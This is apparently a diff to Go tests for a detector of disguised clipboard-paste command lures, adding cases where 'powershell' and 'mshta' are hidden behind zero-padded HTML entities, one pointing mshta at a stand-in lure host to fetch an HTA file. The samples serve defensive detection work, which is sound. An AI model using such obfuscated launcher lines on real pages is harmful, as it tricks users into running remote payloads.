@@ -77,6 +77,8 @@ func TestPasteCompact(t *testing.T) {
 		{"Win&plus;R &#43;", "win+r+"},
 		{"&amp; &SHY; &#0; &#xd800; &#1114112; &#8217; &#", "&amp;&shy;&#0;&#xd800;&#1114112;&#8217;&#"},
 		{"café \u00e9 <b", "café\u00e9<b"},
+		{"&#0000000115;&#x000000000073 &#00000000000000000000000000000000000000000000000000112", "ssp"},
+		{"&#99999999999999999999999; &#x1000000000000000070;", "&#99999999999999999999999;&#x1000000000000000070;"},
 	} {
 		if got := string(pasteCompact([]byte(tc.doc))); got != tc.want {
 			t.Errorf("pasteCompact(%q) = %q, want %q", tc.doc, got, tc.want)
@@ -145,6 +147,8 @@ func TestPasteCommandDisguised(t *testing.T) {
 		{"zero-width references", plus + "power&ZeroWidthSpace;sh&zwnj;e&zwj;ll&NoBreak;" + tail, true},
 		{"zero-width space as a numeric reference", plus + "power&#8203;shell" + tail, true},
 		{"tags inside the launcher", plus + "power<span>shell</span>" + tail, true},
+		{"a reference with leading zeros", plus + "power&#0000000115;hell" + tail, true},
+		{"a hexadecimal reference with leading zeros", plus + "&#x000000006D;shta https://cdn.lure.example/c.hta", true},
 		{"keys without '+', a reference", noPlus + "power&#115;hell" + tail, true},
 		{"keys without '+', a zero-width space", noPlus + "ms\u200bhta https://cdn.lure.example/c.hta", true},
 		{"keys without '+', tags inside the launcher", noPlus + "<p>power<span>shell</span>" + tail + "</p>", true},
